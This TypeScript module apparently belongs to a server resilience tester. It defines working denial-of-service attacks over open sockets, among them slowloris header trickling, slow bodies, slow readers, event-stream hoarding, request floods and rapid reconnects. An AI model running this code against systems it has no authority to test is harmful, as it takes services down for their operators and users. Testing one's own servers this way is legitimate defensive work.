import type { Socket } from "node:net"
import type { Target } from "./target.ts"

/** The actions of an attacker on one open connection. */
export interface Attack {
  readonly name: string
  /** The description for the report. */
  readonly description: string
  /** Whether the attack applies to a target; default all targets. */
  readonly isFor?: (target: Target) => boolean
  /** Starts the attack on an open connection. Repeated actions must stop when the connection closes. */
  readonly begin: (socket: Socket, target: Target) => void
  /** Milliseconds until a closed connection is opened again. */
  readonly reopenMs: number
}

const trickleMs = 400
const requestsAhead = 16

/** Sends a text at intervals for as long as the connection is open. */
function trickle(socket: Socket, text: () => string): void {
  const timer = setInterval(() => send(socket, text()), trickleMs)
  socket.once("close", () => clearInterval(timer))
}

function send(socket: Socket, text: string): void {
  socket.write(text, "latin1")
}

/** Calls `begin` after the handshake of the target, or at once where the target has none. */
function whenOpened(socket: Socket, { opening }: Target, begin: () => void): void {
  if (opening === undefined) begin()
  else {
    send(socket, opening)
    socket.once("data", begin)
  }
}

/** All attacks, in which callers occupy resources that other callers need. */
export const attacks: readonly Attack[] = [
  { name: "idle", description: "connections on which nothing is sent", begin: () => {}, reopenMs: 50 },
  {
    name: "slowloris",
    description: "headers that come one by one and never end",
    begin: (socket, { opening, request }) => {
      const text = opening ?? request
      send(socket, text.slice(0, text.indexOf("\r\n") + 2))
      let count = 0
      trickle(socket, () => `x-${++count}: 1\r\n`)
    },
    reopenMs: 50,
  },
  {
    name: "half",
    description: "half of a request and nothing more",
    begin: (socket, target) => whenOpened(socket, target, () => send(socket, target.halfRequest)),
    reopenMs: 50,
  },
  {
    name: "slow-body",
    description: "bodies that come byte by byte",
    begin: (socket, target) =>
      whenOpened(socket, target, () => {
        send(socket, target.halfRequest)
        trickle(socket, () => " ")
      }),
    reopenMs: 50,
  },
  {
    name: "slow-reader",
    description: "large answers, many asked for ahead, that nobody reads",
    begin: (socket, target) =>
      whenOpened(socket, target, () => {
        socket.pause()
        send(socket, target.largeRequest.repeat(requestsAhead))
      }),
    reopenMs: 50,
  },
  {
    name: "streams",
    description: "streams of events, as many as may be",
    isFor: ({ streamRequest }) => streamRequest !== undefined,
    begin: (socket, target) => whenOpened(socket, target, () => send(socket, target.streamRequest ?? "")),
    reopenMs: 50,
  },
  {
    name: "flood",
    description: "requests as fast as they are answered, several ahead",
    begin: (socket, target) => {
      const { request, floodRequests = [request], opening } = target
      let count = 0
      const ask = (requests: number) => {
        const texts = Array.from({ length: requests }, () => floodRequests[count++ % floodRequests.length])
        send(socket, texts.join(""))
      }
      whenOpened(socket, target, () => {
        ask(requestsAhead)
        // Not every answer in WebSocket frames is counted, but enough for the attack to continue.
        const mark = opening === undefined ? "HTTP/1.1 " : '"jsonrpc"'
        socket.on("data", (data) => ask(data.toString("latin1").split(mark).length - 1))
      })
    },
    reopenMs: 0,
  },
  {
    name: "connects",
    description: "connections that are opened for one request each, as fast as they are closed",
    begin: (socket, target) =>
      whenOpened(socket, target, () => {
        send(socket, target.request)
        socket.once("data", () => socket.destroy())
      }),
    reopenMs: 0,
  },
]
